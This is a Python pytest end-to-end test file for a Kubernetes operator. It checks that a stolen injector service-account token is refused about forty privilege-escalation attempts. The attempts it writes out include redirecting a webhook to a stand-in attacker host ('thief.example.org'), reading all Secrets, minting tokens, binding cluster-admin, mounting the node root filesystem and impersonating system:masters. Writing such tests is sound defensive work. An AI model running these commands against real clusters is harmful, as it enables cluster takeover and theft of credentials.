"""What the injector's token is worth to somebody who steals it: what the injector does, and no way up from there."""

import json
from collections.abc import Mapping
from typing import Final

import pytest
import yaml

from hack.cluster import Cluster, binaries
from hack.install import NAMESPACE
from hack.kubectl import Json, Kubectl
from sovereign_operator.core import names
from tests.e2e.manifests import pod
from tests.e2e.sidecars import WEBHOOKS

PROCESS: Final = "sovereign-injector"

ALLOWED: Final = {
    ("", "namespaces", "list"),
    ("", "namespaces", "watch"),
    ("", "configmaps", "list"),
    ("", "configmaps", "watch"),
    ("sovereignty.dev", "sovereigntypolicies", "list"),
    ("sovereignty.dev", "sovereigntypolicies", "watch"),
}
"""All that it may do, and others may not: read what its answers depend on."""

EVERYTHING: Final = {"apiGroups": ["*"], "apiVersions": ["*"], "operations": ["*"], "resources": ["*/*"]}
ELSEWHERE: Final = [
    {"op": "replace", "path": "/webhooks/0/clientConfig", "value": {"url": "https://thief.example.org/"}},
    {"op": "replace", "path": "/webhooks/0/rules", "value": [EVERYTHING]},
    {"op": "remove", "path": "/webhooks/0/namespaceSelector"},
    {"op": "remove", "path": "/webhooks/0/matchConditions"},
]
"""Has the API server show the thief every request, and do as the thief says."""

RBAC: Final = "rbac.authorization.k8s.io"
ACCOUNT: Final = {"kind": "ServiceAccount", "name": PROCESS, "namespace": NAMESPACE}
CLUSTER_ADMIN: Final = {"apiGroup": RBAC, "kind": "ClusterRole", "name": "cluster-admin"}


def made(api_version: str, kind: str, **parts: object) -> Json:
    """Return an object of the thief's."""
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": "thief"}, **parts}


def webhook() -> Json:
    """Return a webhook that sees everything."""
    sides = {"admissionReviewVersions": ["v1"], "sideEffects": "None"}
    client = {"url": "https://thief.example.org/"}
    return {"name": "thief.example.org", "clientConfig": client, "rules": [EVERYTHING], **sides}


ADMISSION: Final = "admissionregistration.k8s.io/v1"
DRY: Final = "--dry-run=server"
CREATE: Final = ("create", DRY, "--validate=false", "-f", "-")
HERE: Final = ("-n", NAMESPACE)


def patch(thing: str, change: Json) -> tuple[str, ...]:
    """Return the words that change a thing."""
    return ("patch", *thing.split(), DRY, "--type=merge", "-p", json.dumps(change))


TOKEN_SECRET: Final = {
    "apiVersion": "v1",
    "kind": "Secret",
    "type": "kubernetes.io/service-account-token",
    "metadata": {"name": "thief", "annotations": {"kubernetes.io/service-account.name": "sovereign-controller"}},
}

WAYS_UP: Final[Mapping[str, tuple[tuple[str, ...], Json | None]]] = {
    "have its webhook see everything": (
        ("patch", "mutatingwebhookconfiguration", WEBHOOKS, DRY, "--type=json", "-p", json.dumps(ELSEWHERE)),
        None,
    ),
    "make a mutating webhook": (CREATE, made(ADMISSION, "MutatingWebhookConfiguration", webhooks=[webhook()])),
    "make a validating webhook": (CREATE, made(ADMISSION, "ValidatingWebhookConfiguration", webhooks=[webhook()])),
    "delete its webhook": (("delete", DRY, "mutatingwebhookconfiguration", WEBHOOKS), None),
    "take a guard away": (("delete", DRY, "validatingadmissionpolicybinding", "sovereignty-guard-nodes"), None),
    "read the Secrets beside it": ((*HERE, "get", "secrets"), None),
    "read all Secrets": (("get", "secrets", "--all-namespaces"), None),
    "read its own Secret": ((*HERE, "get", "secret", names.INJECTOR_CA), None),
    "write its own Secret": ((*HERE, *patch(f"secret {names.INJECTOR_CA}", {"data": {"tls.crt": "eA=="}})), None),
    "say whom to trust": ((*HERE, *patch(f"configmap {names.INJECTOR_CA}", {"data": {"ca.crt": ""}})), None),
    "have a token in a Secret": ((*HERE, *CREATE), TOKEN_SECRET),
    "get the controller's token": ((*HERE, "create", "token", "sovereign-controller"), None),
    "get another token of its own": ((*HERE, "create", "token", PROCESS), None),
    "read roles": (("get", "clusterroles"), None),
    "give itself rights": (patch(f"clusterrole {PROCESS}", {"rules": []}), None),
    "give itself a role": (
        CREATE,
        made(f"{RBAC}/v1", "ClusterRoleBinding", roleRef=CLUSTER_ADMIN, subjects=[ACCOUNT]),
    ),
    "give itself a role here": (
        (*HERE, *CREATE),
        made(f"{RBAC}/v1", "RoleBinding", roleRef=CLUSTER_ADMIN, subjects=[ACCOUNT]),
    ),
    "run as the controller": ((*HERE, *CREATE), pod("thief", serviceAccountName="sovereign-controller")),
    "run on a node's files": (
        ("-n", "default", *CREATE),
        pod("thief", volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
    ),
    "see pods": (("get", "pods", "--all-namespaces"), None),
    "run in one of our pods": ((*HERE, "exec", "deployment/sovereign-controller", "--", "true"), None),
    "go through the API server to a pod": (("get", "--raw", f"/api/v1/namespaces/{NAMESPACE}/pods/x/proxy/"), None),
    "go through the API server to a kubelet": (("get", "--raw", "/api/v1/nodes/brest-1/proxy/pods"), None),
    "change our Deployment": ((*HERE, *patch("deployment sovereign-controller", {"spec": {"replicas": 0}})), None),
    "mark a node": (patch("node brest-1", {"metadata": {"labels": {"thief": "x"}}}), None),
    "be the administrator": (("get", "nodes", "--as=thief", "--as-group=system:masters"), None),
    "be the controller": (("get", "nodes", f"--as=system:serviceaccount:{NAMESPACE}:sovereign-controller"), None),
    "ask for a certificate of the cluster": (
        CREATE,
        made(
            "certificates.k8s.io/v1",
            "CertificateSigningRequest",
            spec={"request": "eA==", "signerName": "kubernetes.io/kube-apiserver-client", "usages": ["client auth"]},
        ),
    ),
    "approve one": (("certificate", "approve", "thief"), None),
    "write a trust bundle": (
        CREATE,
        made("certificates.k8s.io/v1", "ClusterTrustBundle", spec={"trustBundle": "x"}),
    ),
    "relax a policy": (patch("sovereigntypolicy secnumcloud", {"spec": {"countries": ["US"]}}), None),
    "say how a policy is": (
        ("patch", "sovereigntypolicy", "secnumcloud", DRY, "--subresource=status", "--type=merge", "-p", "{}"),
        None,
    ),
    "move a datacentre": (patch("datacentre brest", {"spec": {"country": "FR"}}), None),
    "write a SovereignWorkload": (
        ("-n", "default", *CREATE),
        made("sovereignty.dev/v1alpha1", "SovereignWorkload", spec={"workloadRef": {"kind": "Job", "name": "x"}}),
    ),
    "say how far a policy has come": ((*HERE, *patch("configmap sovereignty-transit.x", {"data": {"x": "y"}})), None),
    "write a ConfigMap": ((*HERE, *CREATE), made("v1", "ConfigMap", data={})),
    "scope a namespace": (patch("namespace default", {"metadata": {"labels": {names.ENFORCE_LABEL: "x"}}}), None),
    "lead in the controller's place": ((*HERE, *patch("lease sovereign-controller", {"spec": {}})), None),
}


@pytest.fixture(scope="module")
def thief(admin: Kubectl, cluster: Cluster, tmp_path_factory: pytest.TempPathFactory) -> Kubectl:
    """Somebody who has the injector's token, and nothing else."""
    config = yaml.safe_load(cluster.kubeconfig.read_text(encoding="utf-8"))
    config["users"][0]["user"] = {"token": admin.run("-n", NAMESPACE, "create", "token", PROCESS).strip()}
    stolen = tmp_path_factory.mktemp("stolen") / "kubeconfig"
    stolen.write_text(yaml.safe_dump(config), encoding="utf-8")
    return Kubectl(binaries.path("kubectl"), stolen)


@pytest.mark.parametrize(("attempt", "body"), WAYS_UP.values(), ids=WAYS_UP.keys())
def test_no_way_leads_up_from_the_injectors_token(thief: Kubectl, attempt: tuple[str, ...], body: Json | None) -> None:
    refused = thief.refusal(*attempt, stdin=json.dumps(body) if body else None)
    assert "Forbidden" in refused or "forbidden" in refused
    assert PROCESS in refused


def test_the_injectors_token_may_do_nothing_but_read_what_answers_depend_on(admin: Kubectl, thief: Kubectl) -> None:
    """All that the API server counts up, in the namespace where it may most."""
    everybody = rights(admin, f"--as=system:serviceaccount:{NAMESPACE}:default")
    assert rights(thief) - everybody == ALLOWED


def rights(person: Kubectl, *options: str) -> set[tuple[str, str, str]]:
    """Return what somebody may do, as the API server counts it up: group, resource and verb."""
    review = {
        "apiVersion": "authorization.k8s.io/v1",
        "kind": "SelfSubjectRulesReview",
        "spec": {"namespace": NAMESPACE},
    }
    asked = ("create", "--validate=false", "-o", "json", "-f", "-", *options)
    said = json.loads(person.run(*asked, stdin=json.dumps(review)))["status"]
    assert not said["incomplete"]
    return {
        (group, resource, verb)
        for rule in said["resourceRules"]
        for group in rule["apiGroups"]
        for resource in rule["resources"]
        for verb in rule["verbs"]
    }
